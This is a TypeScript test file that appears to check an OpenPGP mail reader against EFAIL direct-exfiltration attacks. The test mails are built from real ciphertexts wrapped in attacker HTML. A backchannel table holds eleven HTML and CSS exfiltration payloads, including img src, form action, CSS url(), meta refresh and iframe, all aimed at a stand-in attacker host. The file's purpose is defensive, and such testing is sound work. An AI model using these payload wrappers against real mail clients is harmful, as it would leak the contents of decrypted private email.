/**
 * DE — EFAIL direct exfiltration (efail.de, USENIX Security 2018): the attacker wraps a captured
 * ciphertext between HTML parts of their own, e.g. `<img src="http://attacker/?` before and `">` after,
 * so that a client that joins the decrypted text into the HTML sends it off as part of a URL. The mails
 * here are built from REAL ciphertexts (made with the core and with gpg), one per backchannel.
 *
 * Must hold: the decrypted text stands alone in its own part, exactly as decrypted; the attacker's parts
 * are kept apart (unprotectedParts) and contain nothing decrypted; and the HTML that may be shown,
 * sanitized by the policy, contains no URL that could load — even if every part were joined.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PrivateKey, PublicKey } from 'openpgp';
import { fixturePath } from '../../keys-fixtures/index.ts';
import { read, type ReadResult } from '../../src/core/index.ts';
import { createGpgHome, ok, type GpgHome } from '../support/sop.ts';
import { toolPath } from '../support/tools.ts';
import { CRLF, canary, certificate, encryptArmored, entity, envelope, html, keyring, loadableUrls, multipart, nodeSanitizer, secretKey, text } from '../unit/core/incoming/mail.ts';

const attacker = 'http://127.0.0.1:9';

/** Each backchannel: the HTML before and after the ciphertext. */
const backchannels: Array<[string, string, string]> = [
  ['img src', `<img src="${attacker}/img?`, '">'],
  ['form action', `<form action="${attacker}/form"><textarea name="x">`, '</textarea><input type="submit"></form>'],
  ['CSS url() in style attribute', `<div style="background:url('${attacker}/css?`, `')">x</div>`],
  ['CSS url() in <style>', `<style>body{background:url("${attacker}/style?`, '")}</style>'],
  ['link href', `<link rel="stylesheet" href="${attacker}/link?`, '">'],
  ['base href', `<base href="${attacker}/base/"><a href="`, '">click</a><img src="x.png">'],
  ['meta refresh', `<meta http-equiv="refresh" content="0; url=${attacker}/meta?`, '">'],
  ['video poster', `<video poster="${attacker}/poster?`, '"></video>'],
  ['background attribute', `<table background="${attacker}/bg?`, '"><tr><td>x</td></tr></table>'],
  ['iframe srcdoc / src', `<iframe src="${attacker}/frame?`, '"></iframe>'],
  ['svg image', `<svg><image href="${attacker}/svg?`, '"/></svg>'],
];

let bob: PrivateKey;
let bobPublic: PublicKey;
let alice: PrivateKey;
const sanitizeHtml = nodeSanitizer();

beforeAll(async () => {
  [bob, alice, bobPublic] = await Promise.all([secretKey('bob'), secretKey('alice'), certificate('bob')]);
});

const options = () => ({ ...keyring({ secret: [bob] }), sanitizeHtml });

function assertAlone(view: ReadResult, plaintext: string, secret: string): void {
  // The decrypted text is the one shown part, exactly as decrypted.
  expect(view.parts).toHaveLength(1);
  expect(view.parts[0]).toMatchObject({ kind: 'text', encrypted: true, content: plaintext });
  expect(view.encryption).toBe('partially-encrypted');
  expect(view.warnings.map((warning) => warning.code)).toContain('UNPROTECTED_PARTS');
  // Nothing decrypted in the attacker's parts.
  for (const part of view.unprotectedParts) expect(part.content).not.toContain(secret);
  // No loadable URL in anything that may be shown, even joined together.
  const allHtml = [...view.unprotectedParts, ...view.parts].filter((part) => part.kind === 'html').map((part) => part.content).join('');
  expect(loadableUrls(allHtml)).toEqual([]);
  expect(allHtml).not.toContain('127.0.0.1');
}

function efailMail(before: string, encryptedPart: string, after: string): string {
  return entity(
    { ...envelope('Mallory <mallory@sigill.test>', 'Re: our plans'), 'Content-Type': 'multipart/mixed; boundary="efail"' },
    multipart('efail', [html(before), encryptedPart, html(after)]),
  );
}

function pgpMimePart(armored: string): string {
  return entity(
    { 'Content-Type': 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"' },
    multipart('enc', [entity({ 'Content-Type': 'application/pgp-encrypted' }, `Version: 1${CRLF}`), entity({ 'Content-Type': 'application/octet-stream' }, armored)]),
  );
}

describe('DE: encrypted part between attacker HTML parts (ciphertext made with the core)', () => {
  for (const [name, before, after] of backchannels) {
    it(`${name}: PGP/MIME part in the middle`, async () => {
      const secret = canary();
      const plaintext = `${secret}${CRLF}`;
      const armored = await encryptArmored(text(plaintext), { to: [bobPublic], signer: alice, format: 'binary' });
      const view = await read(efailMail(before, pgpMimePart(armored), after), options());
      assertAlone(view, plaintext, secret);
    });

    it(`${name}: inline armored text/plain part in the middle`, async () => {
      const secret = canary();
      const armored = await encryptArmored(secret, { to: [bobPublic] });
      const view = await read(efailMail(before, text(armored), after), options());
      assertAlone(view, secret, secret);
    });

    it(`${name}: armored block inside the attacker's own HTML part`, async () => {
      const secret = canary();
      const armored = await encryptArmored(secret, { to: [bobPublic] });
      const body = `<html><body>${before}\n${armored.replace(/\n/g, '<br>\n')}\n${after}</body></html>`;
      const view = await read(entity({ ...envelope('Mallory <mallory@sigill.test>', 'x'), 'Content-Type': 'text/html; charset=utf-8' }, body), options());
      if (view.parts.some((part) => part.encrypted)) {
        // The block was found in the HTML's text: its plaintext is one text part, and what surrounded
        // it is kept apart as text, never as HTML.
        expect(view.parts).toEqual([expect.objectContaining({ kind: 'text', encrypted: true, content: secret })]);
        expect(view.unprotectedParts.every((part) => part.kind === 'text' && !part.content.includes(secret))).toBe(true);
      } else {
        // The block sits inside a tag (an attribute value): it is not a block of the text and is never
        // decrypted; only the sanitized HTML remains.
        expect(view.encryptedParts.count).toBe(0);
        expect(JSON.stringify(view)).not.toContain(secret);
      }
      const shownHtml = [...view.parts, ...view.unprotectedParts].filter((part) => part.kind === 'html').map((part) => part.content).join('');
      expect(loadableUrls(shownHtml)).toEqual([]);
      expect(shownHtml).not.toContain('127.0.0.1');
    });
  }
});

describe.runIf(toolPath('gpg') !== undefined || process.env.CI === 'true')('DE: with a ciphertext made by gpg', () => {
  let gpg: GpgHome;
  beforeAll(async () => {
    gpg = await createGpgHome();
    ok(await gpg.importKey(fixturePath('bob', 'pub')));
  });
  afterAll(async () => {
    await gpg?.dispose();
  });

  it('img backchannel around a gpg PGP/MIME part and around a gpg inline block', async () => {
    const secret = canary();
    const plaintext = `${secret}${CRLF}`;
    const mimeCipher = ok(await gpg.gpg(['--encrypt', '--armor', '--recipient', 'bob@sigill.test'], { stdin: text(plaintext) })).stdout.toString('utf8');
    assertAlone(await read(efailMail(`<img src="${attacker}/?`, pgpMimePart(mimeCipher), '">'), options()), plaintext, secret);
    const inlineCipher = ok(await gpg.gpg(['--encrypt', '--armor', '--recipient', 'bob@sigill.test'], { stdin: secret })).stdout.toString('utf8');
    assertAlone(await read(efailMail(`<img src="${attacker}/?`, text(inlineCipher), '">'), options()), secret, secret);
  });
});

describe('DE: the sanitized HTML, rendered with resource loading on, makes no request', () => {
  // jsdom fetches style sheets, frames and scripts when resources are 'usable' (not images or CSS
  // url(), which the static check above covers). The loopback server counts every request; the
  // positive control shows the same harness sees the attacker's unsanitized HTML load.
  async function render(htmlText: string, base: string): Promise<void> {
    const { JSDOM } = await import('jsdom');
    const dom = new JSDOM(`<!doctype html><html><head></head><body>${htmlText}</body></html>`, { url: `${base}/mail`, resources: 'usable', runScripts: 'dangerously' });
    await new Promise<void>((resolve) => {
      if (dom.window.document.readyState === 'complete') resolve();
      else dom.window.addEventListener('load', () => resolve());
    });
    dom.window.close();
  }

  it('zero requests for every backchannel mail; the raw attacker HTML does load', async () => {
    const { createServer } = await import('node:http');
    const requests: string[] = [];
    const server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.writeHead(200, { 'Content-Type': request.url?.includes('frame') ? 'text/html' : 'text/css' });
      response.end('');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      for (const [, before, after] of backchannels) {
        const secret = canary();
        const armored = await encryptArmored(secret, { to: [bobPublic] });
        const local = (html: string) => html.split(attacker).join(base);
        const view = await read(efailMail(local(before), text(armored), local(after)), options());
        const shown = [...view.parts, ...view.unprotectedParts].map((part) => (part.kind === 'html' ? part.content : '')).join('');
        await render(shown, base);
      }
      expect(requests).toEqual([]);
      // Positive control: the same harness sees loads of unsanitized HTML.
      await render(`<link rel="stylesheet" href="${base}/control.css"><iframe src="${base}/frame"></iframe>`, base);
      expect(requests.length).toBeGreaterThan(0);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });
});
